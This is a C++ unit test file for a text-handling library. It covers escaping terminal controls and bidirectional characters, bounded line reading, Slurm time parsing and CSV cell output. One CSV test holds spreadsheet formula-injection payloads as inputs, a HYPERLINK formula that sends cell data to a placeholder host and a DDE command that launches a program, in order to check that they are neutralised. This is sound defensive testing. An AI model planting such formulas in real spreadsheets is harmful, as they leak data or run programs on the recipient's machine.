// Text: what may be printed, its bounds, how numbers and lists are read from it, cells of CSV.
#include "base/text.hpp"

#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <new>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>
#include <unistd.h>

#include "base/files.hpp"
#include "base/job_name.hpp"
#include "base/printable.hpp"
#include "base/process.hpp"
#include "base/slurm_text.hpp"
#include "tests/support/time_zone.hpp"

namespace shapley {
namespace {

using namespace std::string_literals;

TEST(Printable, PlainTextStaysAsItIs) {
  for (const char* text : {"", "physics", "it's job 3", "a\\x1b", "Bücher", "数学", "\U0001f600", "\u00a0", "\u0301"}) {
    EXPECT_EQ(printable(text), text);
    EXPECT_EQ(printable(text, Newlines::kept), text);
  }
}

TEST(Printable, WhatATerminalObeysIsEscaped) {
  EXPECT_EQ(printable("a\033[2Jb"), "a\\x1b[2Jb");
  EXPECT_EQ(printable("\0\a\b\t\r"s), "\\x00\\x07\\x08\\x09\\x0d");
  EXPECT_EQ(printable("\x7f"), "\\u007f");
  EXPECT_EQ(printable("\u0080\u009b2J\u009f"), "\\u0080\\u009b2J\\u009f");
  EXPECT_EQ(printable("\x9b"), "\\x9b") << "C1 as a byte is no UTF-8";
}

TEST(Printable, WhatShowsAnotherTextIsEscaped) {
  EXPECT_EQ(printable("\u061c\u200e\u200f"), "\\u061c\\u200e\\u200f");
  EXPECT_EQ(printable("\u202a\u202b\u202c\u202d\u202e"), "\\u202a\\u202b\\u202c\\u202d\\u202e");
  EXPECT_EQ(printable("\u2066\u2067\u2068\u2069"), "\\u2066\\u2067\\u2068\\u2069");
  EXPECT_EQ(printable("\u2028\u2029"), "\\u2028\\u2029");
  EXPECT_EQ(printable("\u200b\u200c\u200d\u2060\ufeff"), "\\u200b\\u200c\\u200d\\u2060\\ufeff");
  EXPECT_EQ(printable("\U000e0041"), "\\udb40\\udc41") << "a tag";
}

TEST(Printable, WhatIsNoTextIsEscaped) {
  EXPECT_EQ(printable("\uffff\ufdd0\U0001fffe\U0010ffff"), "\\uffff\\ufdd0\\ud83f\\udffe\\udbff\\udfff");
  EXPECT_EQ(printable("\xc0\xaf"), "\\xc0\\xaf") << "overlong";
  EXPECT_EQ(printable("\xe0\x80\xaf"), "\\xe0\\x80\\xaf") << "overlong";
  EXPECT_EQ(printable("\xed\xa0\x80"), "\\xed\\xa0\\x80") << "a surrogate";
  EXPECT_EQ(printable("\xf4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80") << "above U+10FFFF";
  EXPECT_EQ(printable("\xff\xfe"), "\\xff\\xfe");
  EXPECT_EQ(printable("a\xe2\x82"), "a\\xe2\\x82") << "cut short";
  EXPECT_EQ(printable("\xe2\x82z\xe2\x82\xac"), "\\xe2\\x82z\u20ac") << "what follows is read again";
}

TEST(Printable, OnlyATextOfSeveralLinesKeepsItsNewlines) {
  EXPECT_EQ(printable("a\nb\r\n"), "a\\x0ab\\x0d\\x0a");
  EXPECT_EQ(printable("a\nb\r\n", Newlines::kept), "a\nb\\x0d\n");
}

TEST(Printable, AnErrorsFurtherLinesAreLinesOfTheirOwn) {
  const auto several = fail_in_lines(Errc::io, "gnuplot", "\nfirst\n\nsec\rond\n");
  EXPECT_EQ(printable_lines(with_context("a\nb", several.value()).value()), "a\\x0ab: gnuplot: first\nsec\\x0dond\n");
  EXPECT_EQ(printable_lines(fail_in_lines(Errc::io, "", "one\ntwo").value()), "one\ntwo\n");
  EXPECT_EQ(printable_lines(fail_in_lines(Errc::io, "exit code 1", "\n").value()), "exit code 1\n");
}

TEST(Utf8, AnUnendedCharacterIsFound) {
  for (const char* text : {"\xc3", "\xe2", "\xe2\x82", "\xf0\x9f\x98"}) {
    EXPECT_EQ(first_character(text).kind, Utf8Character::Kind::unended) << printable(text);
  }
  EXPECT_EQ(first_character("\xe0\x80").kind, Utf8Character::Kind::broken) << "nothing makes this whole";
}

TEST(PrintableStream, EscapesWhatIsWrittenInWhateverWay) {
  std::ostringstream out;
  {
    const PrintableStream guard(out);
    out << "a\033b\n" << '\033' << std::string("\u202e") << std::flush;
    out.put('\r');
    out.write("\x9b", 1);
  }
  EXPECT_EQ(out.str(), "a\\x1bb\n\\x1b\\u202e\\x0d\\x9b");
  out << '\033';
  EXPECT_EQ(out.str().back(), '\033') << "afterwards the stream is as it was";
}

TEST(PrintableStream, ACharacterMayComeByteByByte) {
  std::ostringstream out;
  {
    const PrintableStream guard(out);
    for (const char byte : std::string("\u20ac\u202e\U0001f600")) out << byte << std::flush;
    EXPECT_EQ(out.str(), "\u20ac\\u202e\U0001f600");
    out << '\xe2' << std::flush;
    EXPECT_EQ(out.str(), "\u20ac\\u202e\U0001f600") << "more of it may come";
  }
  EXPECT_EQ(out.str(), "\u20ac\\u202e\U0001f600\\xe2") << "it did not come";
}

TEST(PrintableStream, ControlsThatTheProgramMeansPass) {
  std::ostringstream out;
  {
    const PrintableStream guard(out);
    out << '\xe2' << TerminalControl::red << "\033[0m" << TerminalControl::plain << TerminalControl::line_begin
        << TerminalControl::erase_to_line_end;
  }
  EXPECT_EQ(out.str(), "\\xe2\033[31m\\x1b[0m\033[0m\r\033[K");
}

// Takes nothing, as a closed pipe.
class Full : public std::streambuf {};

TEST(PrintableStream, AFailureOfTheStreamIsOneOfTheWriter) {
  Full full;
  std::ostream out(&full);
  const PrintableStream guard(out);
  out << "text";
  EXPECT_FALSE(out.good());
  out.clear();
  out << TerminalControl::dim;
  EXPECT_FALSE(out.good());
}

std::vector<std::string> lines_of(const std::string& text, Lines::Long longer = Lines::Long::refuse) {
  std::istringstream in(text);
  Lines lines(in, longer);
  std::vector<std::string> all;
  for (std::string line; lines.next(line);) all.push_back(line);
  EXPECT_TRUE(lines.end());
  EXPECT_EQ(lines.number(), static_cast<std::int64_t>(all.size()));
  return all;
}

TEST(Lines, are_those_of_the_text) {
  EXPECT_EQ(lines_of(""), std::vector<std::string>{});
  EXPECT_EQ(lines_of("a"), std::vector<std::string>{"a"});
  EXPECT_EQ(lines_of("a\n"), std::vector<std::string>{"a"});
  EXPECT_EQ(lines_of("a\r\n\nb\r"), (std::vector<std::string>{"a", "", "b"}));
  EXPECT_EQ(lines_of("\n"), std::vector<std::string>{""});
}

// Around the size of the parts in which a line is read.
TEST(Lines, may_have_any_length_up_to_the_bound) {
  for (const std::size_t length :
       {16'382UL, 16'383UL, 16'384UL, 16'385UL, 32'766UL, 32'767UL, k_max_line - 1, k_max_line}) {
    const std::string line(length, 'x');
    EXPECT_EQ(lines_of(line), std::vector<std::string>{line}) << length;
    EXPECT_EQ(lines_of(line + "\ny\n"), (std::vector<std::string>{line, "y"})) << length;
  }
}

TEST(Lines, longer_ones_are_an_error_with_line_bound_and_remedy) {
  std::istringstream in("a\n" + std::string(3 * k_max_line, 'x') + "\nb\n");
  Lines lines(in);
  std::string line;
  EXPECT_TRUE(lines.next(line));
  EXPECT_FALSE(lines.next(line));
  EXPECT_LE(line.capacity(), 3 * k_max_line);
  EXPECT_FALSE(lines.next(line));
  const auto end = lines.end();
  ASSERT_FALSE(end);
  EXPECT_EQ(end.error().code, Errc::invalid_argument);
  EXPECT_EQ(end.error().what,
            "line 2: longer than 1048576 bytes, which is the most that a line may have; is it the right file? Else "
            "leave the line out");
}

TEST(Lines, that_are_cut_leave_the_others_as_they_are) {
  const auto all = lines_of("a\n" + std::string(3 * k_max_line, 'x') + "\nb\n", Lines::Long::cut);
  ASSERT_EQ(all.size(), 3U);
  EXPECT_EQ(all[1].size(), k_max_line + 1);
  EXPECT_EQ(all[2], "b");
}

TEST(Lines, of_a_text_beyond_the_bound_are_an_error) {
  std::istringstream in("abc\ndef\nghi\n");
  Lines lines(in, Lines::Long::refuse, 8);
  std::string line;
  EXPECT_TRUE(lines.next(line));
  EXPECT_TRUE(lines.next(line));
  EXPECT_FALSE(lines.next(line));
  const auto end = lines.end();
  ASSERT_FALSE(end);
  EXPECT_EQ(end.error().what,
            "line 3: the text goes on after 8 bytes, which is the most that is read; is it the right file? Else read "
            "it in parts, as of a shorter time each");
}

TEST(ReadTextFile, reads_up_to_the_bound_and_says_what_is_wrong) {
  const auto file = std::filesystem::temp_directory_path() / ("shapley-bounded." + std::to_string(::getpid()));
  std::ofstream(file) << "12345678";
  EXPECT_EQ(read_text_file(file, 8).value(), "12345678");
  const auto over = read_text_file(file, 7);
  ASSERT_FALSE(over);
  EXPECT_EQ(over.error().what,
            file.string() + ": has more than 7 bytes, which is the most that is read; is it the right file?");
  std::filesystem::remove(file);
  const auto missing = read_text_file(file, 8);
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, Errc::io);
  EXPECT_EQ(missing.error().what, file.string() + ": cannot be read; is it there, and may you read it?");
}

TEST(GuardedMain, turns_exceptions_into_a_sentence_and_an_exit_code) {
  std::string said;
  const auto run = [&](const std::function<int()>& body) {
    said.clear();
    return run_guarded(
        "shapley-x", 70, [&](const std::string& text) { said = text; }, body);
  };
  EXPECT_EQ(run([] { return 3; }), 3);
  EXPECT_EQ(said, "");
  EXPECT_EQ(run([]() -> int { throw std::bad_alloc(); }), k_exit_no_memory);
  EXPECT_EQ(said,
            "shapley-x: there is not enough memory for this; ask for less at once (a shorter time, fewer rows), or "
            "allow it more (ulimit -v, MemoryMax= of its unit)");
  EXPECT_EQ(run([]() -> int { throw std::runtime_error("a\x1b[2J"); }), 70);
  EXPECT_EQ(said.find("shapley-x: internal error: a"), 0U);
  EXPECT_EQ(said.find('\x1b'), std::string::npos);
  EXPECT_EQ(run([]() -> int { throw 1; }), 70);
  EXPECT_NE(said, "");
}

TEST(GuardedMain, turns_exceptions_of_other_threads_into_the_same) {
  const auto run = [](const std::function<void()>& in_thread) {
    return run_guarded(
        "shapley-x", 70, [](const std::string& text) { std::cerr << text << std::endl; },
        [&] {
          std::thread(in_thread).join();
          return 0;
        });
  };
  EXPECT_EXIT((void)run([] { throw std::bad_alloc(); }), ::testing::ExitedWithCode(k_exit_no_memory),
              "not enough memory");
  EXPECT_EXIT((void)run([] { throw std::runtime_error("lost"); }), ::testing::ExitedWithCode(70),
              "internal error: lost");
  EXPECT_EQ(run([] {}), 0);
}

using Parts = std::vector<std::string_view>;

TEST(Text, IsSplitIntoOnePartMoreThanThereAreSeparators) {
  EXPECT_EQ(split("a|bc|d", '|'), (Parts{"a", "bc", "d"}));
  EXPECT_EQ(split("|a||", '|'), (Parts{"", "a", "", ""}));
  EXPECT_EQ(split("a|b", ','), Parts{"a|b"});
  EXPECT_EQ(split("", '|'), Parts{""});
}

TEST(Text, LosesBlanksAtBothEnds) {
  EXPECT_EQ(trimmed(" \t a b\t \r"), "a b");
  EXPECT_EQ(trimmed(" \t "), "");
  EXPECT_EQ(trimmed(""), "");
  EXPECT_EQ(trimmed("a"), "a");
}

TEST(Text, IsFoldedInAsciiAlone) {
  EXPECT_EQ(lower("Physics_AZ@[09"), "physics_az@[09");
  EXPECT_EQ(lower("\xc3\x84"), "\xc3\x84") << "a letter with a diaeresis, in UTF-8";
}

TEST(SlurmTime, an_hour_shown_twice_means_two_instants) {
  const testing::TimeZone berlin(testing::k_berlin);
  const auto time = parse_slurm_time("2026-10-25T02:30:00");
  ASSERT_TRUE(time && time->twin);
  EXPECT_EQ(time->instant, Instant{1792888200});  // 00:30 UTC, summer time
  EXPECT_EQ(time->twin, Instant{1792891800});     // 01:30 UTC
  EXPECT_FALSE(parse_slurm_time("2026-10-25T03:30:00")->twin);
}

TEST(SlurmTime, an_hour_that_is_skipped_means_none) {
  const testing::TimeZone berlin(testing::k_berlin);
  EXPECT_FALSE(parse_slurm_time("2026-03-29T02:30:00"));
  EXPECT_TRUE(parse_slurm_time("2026-03-29T03:30:00"));
}

TEST(SlurmTime, accepts_one_form_and_seconds) {
  const testing::TimeZone utc("UTC0");
  EXPECT_EQ(parse_slurm_time("1970-01-01T00:00:00")->instant, Instant{0});
  for (const char* bad :
       {"2026-11-21", "2026-11-21 07:00:00", "2026-11-21T07:00:00Z", "2026-11-21T24:00:00", "2026-13-01T00:00:00",
        "2026-11-21T07:60:00", "2026-1-21T07:00:000", "-026-11-21T07:00:00", "1969-12-31T23:59:59"}) {
    EXPECT_FALSE(parse_slurm_time(bad)) << bad;
  }
  EXPECT_EQ(parse_slurm_time("1795244400")->instant, Instant{1795244400});
  EXPECT_FALSE(parse_slurm_time("1795244400000000"));
  for (const char* none : {"", "0", "Unknown", "None", "N/A"}) {
    ASSERT_TRUE(parse_slurm_time(none)) << none;
    EXPECT_FALSE(parse_slurm_time(none)->instant) << none;
  }
}

TEST(SlurmDuration, accepts_what_sacct_prints) {
  EXPECT_EQ(parse_slurm_duration("00:00:00"), Duration{0});
  EXPECT_EQ(parse_slurm_duration("01:02:03"), Duration{3723});
  EXPECT_EQ(parse_slurm_duration("10-00:00:01"), Duration{864001});
  EXPECT_EQ(parse_slurm_duration("02:03"), Duration{123});
  for (const char* bad : {"", "5", "-1:00:00", "1:2:3:4", "a:b", "1-", "00:00:00.000", "99999999999999999999:00"}) {
    EXPECT_FALSE(parse_slurm_duration(bad)) << bad;
  }
}

// Cells for spreadsheets.

// A spreadsheet would open a connection, or a program, for some of these.
TEST(CsvCell, NeverBeginsAsAFormula) {
  for (const std::string text : {"=1+1",     "=HYPERLINK(\"http://x/\"&A1)",
                                 "+1+1",     "-1+cmd|' /C calc'!A0",
                                 "@SUM(A1)", "\t=1",
                                 "\r=1",     "=",
                                 "+",        "-",
                                 "--1",      "-.5",
                                 "+1.",      "-1e",
                                 "-1e+",     "- 1",
                                 "-1 ",      "-0x10",
                                 "-inf",     "'=1"}) {
    const std::string cell = csv_cell(text);
    const std::string unquoted = cell.starts_with('"') ? cell.substr(1) : cell;
    EXPECT_EQ(unquoted.front(), '\'') << cell;
  }
  EXPECT_EQ(csv_cell("=A1"), "'=A1");
  EXPECT_EQ(csv_cell("=A1,B1"), "\"'=A1,B1\"");
  EXPECT_EQ(csv_cell("-\"x\""), "\"'-\"\"x\"\"\"");
  EXPECT_EQ(csv_cell("'quoted'"), "''quoted'") << "or it would be read as what it is not";
}

TEST(CsvCell, LeavesNumbersAndTextAsTheyAre) {
  for (const std::string text :
       {"", "0", "-3", "+3", "-0.25", "-1.5e-07", "+2E10", "-170141183460469231731687303715884105728", "physics", "a=b",
        "a-b", "1=2", "n[1-4]", "2026-11-26T17:00:00"}) {
    EXPECT_EQ(csv_cell(text), text);
  }
}

TEST(CsvCell, IsQuotedWhereItMustBe) {
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("a;=b"), "\"a;=b\"");
  EXPECT_EQ(csv_cell("say \"yes\""), "\"say \"\"yes\"\"\"");
  EXPECT_EQ(csv_cell("a\nb"), "\"a\nb\"");
}

TEST(Text, CountsAreGrouped) {
  EXPECT_EQ(grouped(0), "0");
  EXPECT_EQ(grouped(999), "999");
  EXPECT_EQ(grouped(1204311), "1,204,311");
  EXPECT_EQ(grouped(-1000), "-1,000");
  EXPECT_EQ(grouped(-100), "-100");
}

TEST(Text, GroupedCountsHaveTheirNoun) {
  EXPECT_EQ(grouped(1, "run"), "1 run");
  EXPECT_EQ(grouped(1204, "run"), "1,204 runs");
}

TEST(JobName, IsANumberATaskOfAnArrayOrAPartOfAHeterogeneousJob) {
  EXPECT_EQ(parse_job_name("4711")->job, 4711U);
  EXPECT_EQ(parse_job_name("72_0")->task, 0U);
  EXPECT_EQ(parse_job_name("3+1")->job, 4U);
  EXPECT_EQ(parse_job_name("3+1")->het_job, 3U);
  for (const char* wrong :
       {"", "_", "_3", "72_", "-1", "1.5", "72_3_4", "4294967296", "0", " 7", "+1", "3+", "3+x", "4294967295+1"}) {
    EXPECT_FALSE(parse_job_name(wrong)) << wrong;
  }
}

}  // namespace
}  // namespace shapley
